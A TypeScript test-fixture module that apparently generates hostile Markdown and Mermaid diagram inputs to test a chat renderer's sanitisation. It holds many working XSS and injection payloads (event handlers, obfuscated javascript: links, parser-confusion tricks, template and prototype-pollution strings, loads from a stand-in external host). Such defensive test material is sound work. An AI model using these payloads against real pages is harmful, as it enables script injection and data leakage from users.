/** Texts that try to run, fetch or open something in a place where a message is shown. */

/** What a text that runs leaves behind, and the address that one that fetches would call. */
const hitScript = 'window.hit=1';
export const foreignOrigin = 'https://elsewhere.example';

const openTags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'math',
  'style',
  'a href=x',
  'button autofocus',
  'form',
  'div tabindex=0 autofocus',
  'x contenteditable autofocus',
];

const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart'];

/** Elements that run a handler once they are in the page. */
const handlerElements = openTags.flatMap((tag) =>
  handlers.map((name) => `<${tag} ${name}="${hitScript}">x`),
);

const addresses = [
  `javascript:${hitScript}`,
  `JaVaScRiPt:${hitScript}`,
  `java\tscript:${hitScript}`,
  `&#106;avascript:${hitScript}`,
  `javascript&colon;${hitScript}`,
  `\u0001javascript:${hitScript}`,
  `vbscript:${hitScript}`,
  `data:text/html,<script>${hitScript}</script>`,
  `data:image/svg+xml,<svg onload="${hitScript}">`,
  'file:///etc/passwd',
  'blob:https://elsewhere.example/1',
  'filesystem:https://elsewhere.example/1',
];

/** Addresses with unsafe schemes, in every way that a text can link to one. */
const linked = addresses.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `<${address}>`,
  `[x][there]\n\n[there]: ${address}`,
  `<a href="${address}">x</a>`,
  `![x](${address})`,
]);

/** Elements that load or run content. */
const embeddedContent = [
  `<script>${hitScript}</script>`,
  `<script src="${foreignOrigin}/a.js"></script>`,
  `<SCRIPT>${hitScript}</SCRIPT>`,
  `<scr<script>ipt>${hitScript}</script>`,
  `<iframe srcdoc="<script>parent.${hitScript}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hitScript}"></iframe>`,
  `<object data="data:text/html,<script>${hitScript}</script>"></object>`,
  `<embed src="data:text/html,<script>${hitScript}</script>">`,
  `<base href="${foreignOrigin}/">`,
  `<meta http-equiv="refresh" content="0;url=${foreignOrigin}">`,
  `<link rel="stylesheet" href="${foreignOrigin}/a.css">`,
  `<style>@import url(${foreignOrigin}/a.css);</style>`,
  `<style>*{background:url(${foreignOrigin}/a.png)}</style>`,
  `<div style="background:url(${foreignOrigin}/a.png)">x</div>`,
  `<form action="${foreignOrigin}"><button>Send</button></form>`,
  `<form action="javascript:${hitScript}"><input type=submit autofocus></form>`,
  `<svg><script>${hitScript}</script></svg>`,
  `<svg><a href="javascript:${hitScript}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${hitScript}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${foreignOrigin}/a.svg#x"></use></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${hitScript}></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${hitScript}>"></noscript>`,
  `<template><img src=x onerror=${hitScript}></template>`,
  `<!--><img src=x onerror=${hitScript}>-->`,
  `<![CDATA[><img src=x onerror=${hitScript}>]]>`,
  `<?xml-stylesheet href="javascript:${hitScript}"?>`,
  `<table background="${foreignOrigin}/a.png"><tr><td>x</td></tr></table>`,
  `![x](${foreignOrigin}/pixel.png)`,
  `![x][p]\n\n[p]: ${foreignOrigin}/pixel.png`,
  `<img src="${foreignOrigin}/pixel.png">`,
  `<video poster="${foreignOrigin}/a.png"></video>`,
  `<picture><source srcset="${foreignOrigin}/a.png"></picture>`,
];

const breakouts = [
  `</code></pre><script>${hitScript}</script>`,
  `<img src=x onerror=${hitScript}>`,
  `\${${hitScript}}`,
  `{{constructor.constructor('${hitScript}')()}}`,
];

/** Code that tries to leave its block, or to inject attributes through its language. */
const fenced = breakouts.flatMap((text) => [
  `\`\`\`json\n${text}\n\`\`\``,
  `\`\`\`html onload=${hitScript}\n${text}\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${hitScript}>\n${text}\n\`\`\``,
  `\`\`\`__proto__\n${text}\n\`\`\``,
  `\`${text}\``,
]);

/** Hostile texts for a message that shows no diagram. */
export const hostileMarkdown: readonly string[] = [
  ...handlerElements,
  ...linked,
  ...embeddedContent,
  ...fenced,
];

const labels = [
  `<img src=x onerror=${hitScript}>`,
  `<script>${hitScript}</script>`,
  `<svg onload=${hitScript}>`,
  `<a href='javascript:${hitScript}'>x</a>`,
  `<iframe srcdoc='<script>parent.${hitScript}</script>'></iframe>`,
  `&lt;img src=x onerror=${hitScript}&gt;`,
  `#60;img src=x onerror=${hitScript}#62;`,
  `<img src='${foreignOrigin}/pixel.png'>`,
];

const labelled = labels.flatMap((label) => [
  `graph TD\nA["${label}"] --> B`,
  `graph TD\nA -->|"${label}"| B`,
  `sequenceDiagram\nA->>B: ${label}`,
  `classDiagram\nclass A["${label}"]`,
  `stateDiagram-v2\ns1: ${label}`,
  `pie\n"${label}" : 1`,
  `gantt\ntitle ${label}\nsection a\nt: 2020-01-01, 1d`,
  `erDiagram\nA {\nstring x "${label}"\n}`,
  `mindmap\nroot((${label}))`,
]);

/** Code of diagrams that tries to do more than draw a picture. */
const maliciousDiagrams = [
  `graph TD\nA --> B\nclick A "javascript:${hitScript}"`,
  `graph TD\nA --> B\nclick A href "javascript:${hitScript}" "x" _self`,
  `graph TD\nA --> B\nclick A call eval("${hitScript}")`,
  `%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA["<img src=x onerror=${hitScript}>"]`,
  `---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA["<img src=x onerror=${hitScript}>"]`,
  `%%{init: {"htmlLabels": true, "securityLevel": "loose"}}%%\ngraph TD\nA["<svg onload=${hitScript}>"]`,
  `%%{init: {"themeCSS": "@import url(${foreignOrigin}/a.css);"}}%%\ngraph TD\nA --> B`,
  `%%{init: {"themeCSS": "*{background:url(${foreignOrigin}/a.png)}"}}%%\ngraph TD\nA --> B`,
  `%%{init: {"fontFamily": "x;}*{background:url(${foreignOrigin}/a.png)}"}}%%\ngraph TD\nA --> B`,
  `graph TD\nA --> B\nstyle A fill:url(${foreignOrigin}/a.svg#x)`,
  `graph TD\nA --> B\nclassDef c background:url(${foreignOrigin}/a.png)\nclass A c`,
  `sequenceDiagram\nparticipant A\nlinks A: {"x": "javascript:${hitScript}"}\nA->>A: y`,
  `graph TD\nA@{ img: "${foreignOrigin}/a.png", label: "x" }`,
  `graph TD\nA@{ "img": "${foreignOrigin}/a.png" } --> B`,
  `sequenceDiagram\nparticipant A\nlink A: x @ javascript:${hitScript}\nA->>A: y`,
  `classDiagram\nclass A\nlink A "javascript:${hitScript}"`,
  `%%{init: {"layout": "elk"}}%%\ngraph TD\nA --> B`,
  `%%{init: {"__proto__": {"hit": 1}}}%%\ngraph TD\nA --> B`,
];

/** Hostile code of diagrams. */
export const hostileDiagrams: readonly string[] = [...labelled, ...maliciousDiagrams];
